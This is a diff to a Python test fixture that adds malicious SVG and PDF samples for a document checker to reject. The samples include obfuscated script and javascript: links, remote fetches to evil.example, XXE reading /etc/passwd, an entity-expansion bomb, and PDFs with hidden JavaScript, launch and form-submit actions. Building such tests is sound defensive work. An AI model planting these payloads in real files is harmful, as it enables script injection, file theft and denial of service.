@@ -11,6 +11,7 @@ reference definitions, autolinks, attribute lists, code spans and fences that ar
 
 from __future__ import annotations
 
+import zlib
 from dataclasses import dataclass, field
 
 P = "__pwned=1"  # the payload: sets window.__pwned
@@ -34,8 +35,8 @@ class Vector:
     name: str
     markdown: str  # pasted into the body (may be several lines)
     codes: frozenset[str]
-    line: int = 0  # the line of the finding, counted from the vector's first line
-    files: dict[str, str] = field(default_factory=dict)  # other files in the guide's folder
+    line: int = 0  # the line of the finding, counted from the vector's (or file's) first line
+    files: dict[str, str | bytes] = field(default_factory=dict)  # other files in its folder
     file: str = ""  # the finding is in this file of the guide's folder, not in zh.md
     meta: dict[str, str] = field(default_factory=dict)  # front-matter values to set
 
@@ -188,3 +189,180 @@ VECTORS: list[Vector] = [
     v("text-number-rlo", "请拨打 \u202e54321 咨询。", TEL_HIDDEN),
     v("text-number-fullwidth", "请拨打 １２３４５ 咨询。", TEL_DIGIT),
 ]
+
+
+# -- h-svg: uploaded SVG images and PDFs, read with a real parser ------------------------------
+# Every SVG here runs script or fetches from another host when opened on its own in a
+# browser that follows it (or would, in some browser); each is refused, by the check and by
+# the build. The PDFs carry JavaScript, launch, attachment or form actions, some with names
+# hex-escaped (`/J#61vaScript`) or inside compressed object streams.
+
+SVG_INVALID = "svg.invalid"
+PDF_ACTIVE = "pdf.active"
+PDF_INVALID = "pdf.invalid"
+NS = 'xmlns="http://www.w3.org/2000/svg"'
+XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
+XHTML = "http://www.w3.org/1999/xhtml"
+# an SVG document that sets the flag, as a data: URL
+B64_SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iX19wd25lZD0xIi8+"
+
+
+def pdf(*objects: str, packed: tuple[str, ...] = ()) -> bytes:
+    """A small PDF: `objects` are numbered from 1 (1 is the catalogue), written as they
+    are; `packed` objects follow them inside one Flate-compressed object stream, found
+    through a cross-reference stream as PDF 1.5 writers do."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    entries = [(0, 0, 65535)]
+    for number, body in enumerate(objects, 1):
+        entries.append((1, len(out), 0))
+        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
+    first = len(objects) + 1
+    if packed:
+        numbers = range(first, first + len(packed))
+        bodies = [body.encode("latin-1") + b"\n" for body in packed]
+        offsets, position = [], 0
+        for body in bodies:
+            offsets.append(position)
+            position += len(body)
+        head = " ".join(f"{n} {o}" for n, o in zip(numbers, offsets, strict=True)).encode() + b"\n"
+        data = zlib.compress(head + b"".join(bodies))
+        stream_number = first + len(packed)
+        for index in range(len(packed)):
+            entries.append((2, stream_number, index))
+        entries.append((1, len(out), 0))
+        out += (f"{stream_number} 0 obj\n<< /Type /ObjStm /N {len(packed)} /First {len(head)} "
+                f"/Filter /FlateDecode /Length {len(data)} >>\nstream\n").encode()
+        out += data + b"\nendstream\nendobj\n"
+    xref_number = len(entries)
+    entries.append((1, len(out), 0))
+    table = b"".join(bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")
+                     for kind, a, b in entries)
+    start = len(out)
+    out += (f"{xref_number} 0 obj\n<< /Type /XRef /Size {len(entries)} /W [1 4 2] "
+            f"/Root 1 0 R /Length {len(table)} >>\nstream\n").encode()
+    out += table + f"\nendstream\nendobj\nstartxref\n{start}\n%%EOF\n".encode()
+    return bytes(out)
+
+
+PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
+PLAIN_PDF = pdf("<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE)
+
+
+def svg_vector(name: str, svg: str | bytes, code: str = SVG, line: int = 0) -> Vector:
+    return v(name, "![图](pic.svg)", code, files={"pic.svg": svg}, file="pic.svg", line=line)
+
+
+def pdf_vector(name: str, data: bytes, code: str = PDF_ACTIVE) -> Vector:
+    return v(name, "[下载打印版](sheet.pdf)", code, files={"sheet.pdf": data}, file="sheet.pdf")
+
+
+FILE_VECTORS: list[Vector] = [
+    svg_vector("svg-html-script", f'<svg {NS} xmlns:h="{XHTML}"><h:script>{P}</h:script></svg>'),
+    svg_vector("svg-prefixed-script", '<s:svg xmlns:s="http://www.w3.org/2000/svg">'
+               f"<s:script>{P}</s:script></s:svg>"),
+    svg_vector("svg-default-ns-script", f'<svg {NS}><g><script xmlns="{XHTML}">{P}</script></g>'
+               "</svg>"),
+    svg_vector("svg-foreignobject", f'<svg {NS}><foreignObject width="9" height="9"><img '
+               f'xmlns="{XHTML}" src="x" onerror="{P}"/></foreignObject></svg>'),
+    svg_vector("svg-entity-scheme", f'<!DOCTYPE svg [<!ENTITY j "javascript">]><svg {NS}>'
+               f'<a href="&j;:{P}"><text y="9">x</text></a></svg>'),
+    svg_vector("svg-charref-scheme", f'<svg {NS}><a href="&#x6A;ava&#x09;script:{P}"><text '
+               'y="9">x</text></a></svg>'),
+    svg_vector("svg-xlink-javascript", f'<svg {NS} {XLINK}><a xlink:href="javascript:{P}">'
+               '<rect width="9" height="9"/></a></svg>'),
+    svg_vector("svg-set-href", f'<svg {NS}><a><set attributeName="href" to="javascript:{P}"/>'
+               '<text y="9">x</text></a></svg>'),
+    svg_vector("svg-animate-xlink-href", f'<svg {NS} {XLINK}><a xlink:href="#a"><animate '
+               f'attributeName="xlink:href" values="javascript:{P}"/><text y="9">x</text></a></svg>'),
+    svg_vector("svg-animate-fill-remote", f'<svg {NS}><rect width="9" height="9"><animate '
+               'attributeName="fill" to="url(https://evil.example/p.svg#g)" dur="1s"/></rect></svg>'),
+    svg_vector("svg-use-data", f'<svg {NS}><use href="data:image/svg+xml;base64,{B64_SVG}#x"/>'
+               "</svg>"),
+    svg_vector("svg-use-remote", f'<svg {NS} {XLINK}><use xlink:href="https://evil.example/s.svg#i"'
+               "/></svg>"),
+    svg_vector("svg-image-remote", f'<svg {NS}><image href="//evil.example/t.png" width="1" '
+               'height="1"/></svg>'),
+    svg_vector("svg-feimage-sibling-svg", f'<svg {NS}><filter id="f"><feImage href="other.svg"/>'
+               "</filter></svg>"),
+    svg_vector("svg-style-import", f'<svg {NS}><style>@import url(https://evil.example/x.css);'
+               "</style></svg>"),
+    svg_vector("svg-style-import-escaped", f'<svg {NS}><style>@\\69 mport "//evil.example/x.css";'
+               "</style></svg>"),
+    svg_vector("svg-style-cdata-url", f'<svg {NS}><style><![CDATA[rect {{ fill: u\\72l( '
+               '"https://evil.example/p.svg#g") }]]></style><rect width="9" height="9"/></svg>'),
+    svg_vector("svg-style-attr-url", f'<svg {NS}><rect width="9" height="9" style="fill:url('
+               "'//evil.example/p.svg#g')\"/></svg>"),
+    svg_vector("svg-style-split-by-element", f'<svg {NS}><style>@imp<g/>ort url(//evil.example/'
+               "x.css);</style></svg>"),
+    svg_vector("svg-xlink-other-prefix", f'<svg {NS} xmlns:l="http://www.w3.org/1999/xlink"><a '
+               f'l:href="javascript:{P}"><text y="9">x</text></a></svg>'),
+    svg_vector("svg-cursor-url", f'<svg {NS}><g cursor="url(https://evil.example/c.cur), auto">'
+               "</g></svg>"),
+    svg_vector("svg-css-expression", f'<svg {NS}><rect style="width: expression({P})"/></svg>'),
+    svg_vector("svg-css-font-face", f'<svg {NS}><style>@font-face {{ font-family: x; src: '
+               "local(x) }</style></svg>"),
+    svg_vector("svg-event-odd-case", f'<svg {NS}><rect width="9" height="9" OnMouseOver="{P}"/>'
+               "</svg>"),
+    svg_vector("svg-event-namespaced", f'<svg {NS} xmlns:e="urn:x"><rect e:onclick="{P}"/></svg>'),
+    svg_vector("svg-script-cdata", f'<svg {NS}><script><![CDATA[{P}]]></script></svg>'),
+    svg_vector("svg-handler", f'<svg {NS}><handler type="application/ecmascript">{P}</handler>'
+               "</svg>"),
+    svg_vector("svg-xml-stylesheet", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" '
+               f'href="evil.xsl"?><svg {NS}/>'),
+    svg_vector("svg-xinclude", f'<svg {NS} xmlns:xi="http://www.w3.org/2001/XInclude">'
+               '<xi:include href="/etc/passwd" parse="text"/></svg>'),
+    svg_vector("svg-external-entity", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+               f"<svg {NS}><text>&x;</text></svg>"),
+    svg_vector("svg-billion-laughs", '<!DOCTYPE svg [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
+               + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'
+                         for i in range(8))
+               + f"]><svg {NS}><text>&i;</text></svg>"),
+    svg_vector("svg-attlist-default", f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{P}">]>'
+               f"<svg {NS}/>"),
+    svg_vector("svg-xml-base", f'<svg {NS}><a xml:base="javascript:{P}//" href="#x"><text '
+               'y="9">x</text></a></svg>'),
+    svg_vector("svg-iframe-in-metadata", f'<svg {NS}><metadata><iframe xmlns="{XHTML}" '
+               f'src="javascript:parent.{P}"/></metadata></svg>'),
+    svg_vector("svg-script-line-3", f'<svg {NS}>\n  <title>图</title>\n  <script>{P}</script>\n'
+               "</svg>\n", line=2),
+    svg_vector("svg-no-namespace", f"<svg><script>{P}</script></svg>", SVG_INVALID),
+    svg_vector("svg-utf16", f'<svg {NS}><script>{P}</script></svg>'.encode("utf-16"),
+               SVG_INVALID),
+    svg_vector("svg-undeclared-entity", f'<svg {NS}><text>&nbsp;</text></svg>', SVG_INVALID),
+    pdf_vector("pdf-openaction-js", pdf(
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE,
+        "<< /S /JavaScript /JS (app.alert(1)) >>")),
+    pdf_vector("pdf-hex-escaped-names", pdf(
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) "
+        ">> >>", PAGES, PAGE)),
+    pdf_vector("pdf-js-in-object-stream", pdf(
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE,
+        packed=("<< /S /JavaScript /JS (app.alert(1)) >>",))),
+    pdf_vector("pdf-hex-in-object-stream", pdf(
+        "<< /Type /Catalog /Pages 2 0 R /Names 4 0 R >>", PAGES, PAGE,
+        packed=("<< /#4Aava#53cript << /Names [(a) 5 0 R] >> >>",
+                "<< /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (app.alert(1)) >>"))),
+    pdf_vector("pdf-page-aa-js", pdf(
+        "<< /Type /Catalog /Pages 2 0 R >>", PAGES,
+        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /JavaScript "
+        "/JS (app.alert(1)) >> >> >>")),
+    pdf_vector("pdf-launch", pdf(
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> >>",
+        PAGES, PAGE)),
+    pdf_vector("pdf-embedded-file", pdf(
+        "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] "
+        ">> >> >>", PAGES, PAGE, "<< /Type /Filespec /F (a.exe) >>")),
+    pdf_vector("pdf-xfa", pdf(
+        "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>", PAGES, PAGE,
+        "<< /Length 0 >>\nstream\n\nendstream")),
+    pdf_vector("pdf-submit-form", pdf(
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (https://evil.example/)"
+        " >> >>", PAGES, PAGE)),
+    pdf_vector("pdf-orphan-object", pdf(
+        "<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE)
+        .replace(b"startxref", b"9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n"
+                 b"startxref")),
+    pdf_vector("pdf-html-renamed", f"<html><script>{P}</script></html>".encode(), PDF_INVALID),
+]
+VECTORS.extend(FILE_VECTORS)
